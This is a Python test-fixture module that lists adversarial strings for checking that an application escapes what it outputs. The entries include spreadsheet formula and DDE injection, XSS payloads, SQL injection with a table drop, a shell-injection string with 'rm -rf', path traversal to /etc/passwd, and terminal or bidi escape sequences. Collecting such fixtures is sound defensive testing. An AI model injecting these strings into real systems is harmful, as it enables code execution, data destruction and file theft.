"""Texts that want to be something else: formulas, markup, escapes, SQL, templates."""

from __future__ import annotations

FORMULAS = {
    "formula": "=1+1",
    "dde": "=cmd|' /C calc'!A0",
    "link formula": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,1)",
    "full-width": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(1)",
    "apostrophe": "'=1+1",
    "two apostrophes": "''tis",
    "number": "1e5",
    "leading zeros": "007",
    "date": "3-4",
    "truth": "TRUE",
}
MARKUP = {
    "script": "<script>document.title='owned';alert(1)</script>",
    "image error": "<img src=x onerror=alert(1)>",
    "image": "<img src=http://127.0.0.1:9/a.png>",
    "drawing": "<svg onload=alert(1)><image href=http://127.0.0.1:9/b.png /></svg>",
    "style": "</style><style>@import url(http://127.0.0.1:9/c.css);*{display:none}</style>",
    "title": "</title></head><body onload=alert(1)>",
    "attribute": "\" onmouseover='alert(1)' style='background:url(http://127.0.0.1:9/d)' x=\"",
    "base": "<base href=http://127.0.0.1:9/><link rel=prefetch href=http://127.0.0.1:9/e>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "refresh": '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/f">',
    "form": "<form action=http://127.0.0.1:9/><button autofocus onfocus=alert(1)>",
    "entities": "&lt;b&gt; &amp;amp; &#0; &nbsp; &",
    "comment": "<!-- --> --!> <!-- ]]> <![CDATA[ x ]]>",
    "spreadsheet markup": "<r><t>rich</t></r>",
    "markdown link": "[click](javascript:alert(1)) <javascript:alert(1)>",
    "markdown image": "![x](http://127.0.0.1:9/g.png)",
    "terminal markup": "[bold red]x[/] [link=http://127.0.0.1:9/]y[/link] :skull:",
}
CODE = {
    "sql": "'; drop table quotes; --",
    "copy": "' to '/tmp/rostrum-owned.csv'; --",
    "parameters": "$1 $id ? :x %s %(x)s",
    "template": "{{7*7}} {% for x in y %} {# c #} ${7*7} #{7*7} <%= 7*7 %>",
    "format": "%s %n {0} {x!r}",
    "shell": "$(touch /tmp/rostrum-owned) `id` | rm -rf ; &",
    "path": "../../../etc/passwd",
    "spreadsheet spelling": "_x0041_x0042_ _x005F_ _x000d_",
    "separated": 'a,"b";c|d\\"e\\',
    "json": '","x":"y\\u0000\\',
}
ACTING = {
    "colour": "\x1b[31mred\x1b[0m",
    "terminal link": "\x1b]8;;http://127.0.0.1:9/\x1b\\click\x1b]8;;\x1b\\",
    "terminal title": "\x1b]0;owned\x07",
    "one-byte escape": "\x9b31m",
    "right to left": "\u202etxet\u202c",
    "never ended": "\u202e\u2067 open",
    "tag": "\U000e0041",
}
BROKEN = {
    "leading tab": "\t=1+1",
    "leading return": "\r=1+1",
    "leading line": "\n=1+1",
    "leading space": " =1+1",
    "leading mark": "\ufeff=1+1",
    "no-break space": "\u00a0=1+1",
    "lines": "a\r\nb\rc\nd",
    "nul": "n\0ul",
    "no character": "\ufffe\uffff",
    "trailing space": "x ",
}
"""What no page can print, but a table can hold."""
LONG = {
    "far": "\U0001f600\U0010ffff",
    "combining": "Z\u0351\u036b\u0343\u036a\u0342",
    "long word": "w" * 3_000,
}

SERVED = FORMULAS | MARKUP | CODE | ACTING | LONG
EVERY = SERVED | BROKEN | {"longer than a cell": "=" + "long \U0001f600 " * 7_000}
